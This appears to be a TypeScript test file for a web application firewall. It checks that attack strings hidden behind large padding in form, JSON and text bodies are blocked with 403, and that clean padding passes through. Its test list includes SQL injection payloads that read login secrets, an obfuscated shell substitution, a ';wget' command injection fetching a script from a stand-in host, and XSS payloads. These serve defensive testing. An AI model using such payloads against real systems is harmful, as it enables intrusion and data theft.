/** An attack is found at any place of a body, up to the limits of the route. */
import { describe, expect, test } from 'vitest'
import { signatures } from '../../../src/features/signatures/index.ts'
import { inspected } from '../../inspection/app.ts'

const KIB = 1_024
const SIZES = [8, 16, 32, 64, 97].map((kib) => kib * KIB)

/** Attacks that a text of one word may precede. */
const ATTACKS = [
  "' UNION SELECT login || ':' || secret FROM users",
  "' or 1=1 -- ",
  ";$(printf 'di'|rev)",
  ';wget http://a.example/x.sh',
  '<script>alert(1)</script>',
  '" onfocus=alert(1) a="',
]

describe('an attack behind padding never reaches the handler [S63]:', () => {
  test.each(ATTACKS)('%s', async (attack) => {
    const { send, reached } = inspected({ signatures: signatures({ mode: 'enforce' }) })
    for (const size of SIZES) {
      const text = 'a'.repeat(size) + attack
      const bodies = [
        ['application/x-www-form-urlencoded', `first=1&b=${encodeURIComponent(text)}&last=2`],
        ['application/json', JSON.stringify({ first: 'x', list: [{ b: text }], last: 1 })],
        ['text/plain', text],
      ] as const
      for (const [type, body] of bodies)
        expect([type, size, (await send('', body, type)).status]).toEqual([type, size, 403])
    }
    expect(reached).toEqual([])
  })

  test('also behind other values, up to the size of the largest body', async () => {
    const { send, reached } = inspected({ signatures: signatures({ mode: 'enforce' }) })
    for (const attack of ATTACKS) {
      const body = JSON.stringify({ list: [...Array(900).fill('a'.repeat(4 * KIB)), attack] })
      expect(body.length).toBeGreaterThan(3_600_000)
      expect((await send('', body, 'application/json')).status, attack).toBe(403)
    }
    expect(reached).toEqual([])
  })
})

test('the same padding without an attack is forwarded unchanged', async () => {
  const { send, reached } = inspected({ signatures: signatures({ mode: 'enforce' }) })
  const body = JSON.stringify({ list: ['a'.repeat(97 * KIB), 'union select committee'] })
  expect((await send('', body, 'application/json')).status).toBe(200)
  expect(new TextDecoder().decode(reached[0]?.body)).toBe(body)
})
